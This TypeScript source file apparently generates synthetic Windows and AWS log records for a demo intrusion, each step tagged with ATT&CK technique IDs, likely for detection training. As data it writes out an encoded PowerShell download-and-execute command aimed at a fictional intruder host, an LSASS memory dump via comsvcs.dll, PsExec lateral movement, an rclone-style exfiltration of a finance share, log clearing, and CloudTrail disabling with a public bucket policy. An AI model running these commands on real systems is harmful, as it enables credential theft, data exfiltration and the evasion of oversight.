/** The intrusion of the demo, step by step: a document, a dumped password, a file server, a cloud key, data that leaves. */
import type { Instant } from '../../base/clock.ts';
import { type ApiCall, type AwsRecord, apiCall } from './aws.ts';
import { domain, domainController, fileServer, intruder, people, victim } from './cast.ts';
import type { Random } from './random.ts';
import { account, type Process, type WindowsRecord, type WindowsRecords, windowsRecords } from './windows.ts';

export interface Attack {
  readonly windows: readonly WindowsRecord[];
  readonly aws: readonly AwsRecord[];
}

const office = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\';
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';
const minute = 60_000;

/** What every step of the story draws from: its clock, and the processes that the others descend from. */
interface Stage {
  readonly at: (minutes: number, seconds?: number) => Instant;
  readonly random: Random;
  readonly records: WindowsRecords;
  readonly outlook: Process;
  readonly word: Process;
  readonly shell: Process;
}

/** The whole of it takes 30 minutes from `start` on. */
export function attackOf(start: Instant, random: Random): Attack {
  const records = windowsRecords(random);
  const stage: Stage = {
    at: (minutes, seconds = 0) => start + minutes * minute + seconds * 1_000,
    random,
    records,
    outlook: records.newProcess(`${office}OUTLOOK.EXE`, `"${office}OUTLOOK.EXE"`),
    word: records.newProcess(`${office}WINWORD.EXE`, `"${office}WINWORD.EXE" /n "Invoice_4471.docm"`),
    shell: records.newProcess(powershell, `powershell.exe -NoP -W Hidden -enc ${encoded()}`),
  };
  return {
    windows: [...foothold(stage), ...credentials(stage), ...lateralMovement(stage), ...exfiltration(stage)],
    aws: cloudKey(stage),
  };
}

/** T1566.001, T1204.002, T1059.001, T1105 */
function foothold({ at, records, outlook, word, shell }: Stage): readonly WindowsRecord[] {
  const document = `C:\\Users\\${victim.user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8K2P\\Invoice_4471.docm`;
  return [
    records.sysmon(at(0), victim.host, 11, {
      ProcessGuid: outlook.guid,
      ProcessId: outlook.pid,
      Image: outlook.image,
      TargetFilename: document,
      User: account(victim.user),
    }),
    records.started(at(0, 8), victim, word, outlook),
    records.started(at(0, 21), victim, shell, word),
    records.resolved(at(0, 23), victim, shell, intruder.stage, intruder.ip),
    records.connected(at(0, 24), victim, shell, intruder.ip, 443),
  ];
}

/** T1003.001 */
function credentials({ at, records, shell }: Stage): readonly WindowsRecord[] {
  const dump = records.newProcess(
    'C:\\Windows\\System32\\rundll32.exe',
    'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\Users\\Public\\d.dmp full',
  );
  return [
    records.started(at(4), victim, { ...dump, originalName: 'RUNDLL32.EXE' }, shell),
    records.sysmon(at(4, 1), victim.host, 10, {
      SourceProcessGUID: dump.guid,
      SourceProcessId: dump.pid,
      SourceImage: dump.image,
      TargetImage: 'C:\\Windows\\System32\\lsass.exe',
      TargetProcessId: 712,
      GrantedAccess: '0x1fffff',
      CallTrace:
        'C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\comsvcs.dll+2a3f0',
      SourceUser: account(victim.user),
      TargetUser: account('SYSTEM'),
    }),
    records.sysmon(at(4, 2), victim.host, 11, {
      ProcessGuid: dump.guid,
      ProcessId: dump.pid,
      Image: dump.image,
      TargetFilename: 'C:\\Users\\Public\\d.dmp',
      User: account(victim.user),
    }),
  ];
}

/** T1021.002, T1569.002, T1003.006 */
function lateralMovement({ at, records, random }: Stage): readonly WindowsRecord[] {
  const services = records.newProcess(
    'C:\\Windows\\System32\\services.exe',
    'C:\\Windows\\System32\\services.exe',
  );
  const remote = records.newProcess('C:\\Windows\\PSEXESVC.exe', 'C:\\Windows\\PSEXESVC.exe');
  const shell = records.newProcess('C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami /all & net share');
  const system = { user: 'SYSTEM', host: fileServer.host };
  return [
    records.loggedOn(at(9), fileServer.host, victim),
    records.security(at(9, 2), fileServer.host, 4697, {
      SubjectUserName: victim.user,
      SubjectUserSid: victim.sid,
      SubjectDomainName: domain,
      SubjectLogonId: `0x${random.hex(6)}`,
      ServiceName: 'PSEXESVC',
      ServiceFileName: '%SystemRoot%\\PSEXESVC.exe',
      ServiceType: '0x10',
      ServiceStartType: 3,
      ServiceAccount: 'LocalSystem',
    }),
    records.started(at(9, 3), system, remote, services),
    records.started(at(9, 5), system, shell, remote),
    records.loggedOn(at(14), domainController.host, victim),
    records.security(at(14, 30), domainController.host, 4662, {
      SubjectUserName: victim.user,
      SubjectDomainName: domain,
      SubjectUserSid: victim.sid,
      SubjectLogonId: `0x${random.hex(6)}`,
      ObjectServer: 'DS',
      ObjectType: '%{19195a5b-6da0-11d0-afd3-00c04fd930c9}',
      ObjectName: '%{c0ffee00-0000-4000-8000-000000000001}',
      OperationType: 'Object Access',
      AccessMask: '0x100',
      Properties: '%%7688 {1131f6ad-9c07-11d1-f79f-00c04fc2dcd2} {19195a5b-6da0-11d0-afd3-00c04fd930c9}',
    }),
  ];
}

/** T1560.001, T1567.002, T1070.001 */
function exfiltration({ at, records, shell }: Stage): readonly WindowsRecord[] {
  const copy = records.newProcess(
    'C:\\Users\\Public\\sync.exe',
    `sync.exe copy \\\\${fileServer.host}\\finance remote:q3 --transfers 16 --no-check-certificate --config C:\\Users\\Public\\r.conf`,
  );
  return [
    records.started(at(24), victim, { ...copy, originalName: 'rclone.exe' }, shell),
    records.resolved(at(24, 2), victim, copy, intruder.storage, intruder.ip),
    records.connected(at(24, 3), victim, copy, intruder.ip, 443),
    {
      ...records.security(at(29), victim.host, 1102, {
        SubjectUserSid: victim.sid,
        SubjectUserName: victim.user,
        SubjectDomainName: domain,
        SubjectLogonId: '0x5f2a1',
      }),
      Provider_Name: 'Microsoft-Windows-Eventlog',
    },
  ];
}

/** T1078.004, T1562.008, T1098.001, T1530: with a key that lay in the profile of somebody who works on the file server. */
function cloudKey({ at, random }: Stage): readonly AwsRecord[] {
  const stolen = { user: people[4].user, accessKeyId: 'AKIAEXAMPLEK00000001', ip: intruder.ip };
  const agent = 'aws-cli/2.15.0 md/Windows exec-env/none';
  const call = (when: Instant, service: string, name: string, more: Partial<ApiCall> = {}): AwsRecord =>
    apiCall(when, { ...stolen, agent, service, name, readOnly: false, ...more }, random);
  return [
    call(at(17), 'sts', 'GetCallerIdentity', { readOnly: true }),
    call(at(17, 20), 's3', 'ListBuckets', { readOnly: true }),
    call(at(18), 'cloudtrail', 'StopLogging', { request: { name: 'management-events' } }),
    call(at(19), 'iam', 'CreateAccessKey', {
      request: { userName: 'svc-backup' },
      response: {
        accessKey: { userName: 'svc-backup', accessKeyId: 'AKIAEXAMPLEK00000099', status: 'Active' },
      },
    }),
    call(at(21), 's3', 'PutBucketPolicy', {
      request: {
        bucketName: 'corp-finance-reports',
        bucketPolicy: {
          Version: '2012-10-17',
          Statement: [{ Effect: 'Allow', Principal: '*', Action: 's3:GetObject', Resource: '*' }],
        },
      },
    }),
  ];
}

/** As `powershell -EncodedCommand` takes it: base64 of UTF-16LE. It names an address that does not exist. */
function encoded(): string {
  const script = `IEX (New-Object Net.WebClient).DownloadString('https://${intruder.stage}/u')`;
  return Buffer.from(script, 'utf16le').toString('base64');
}
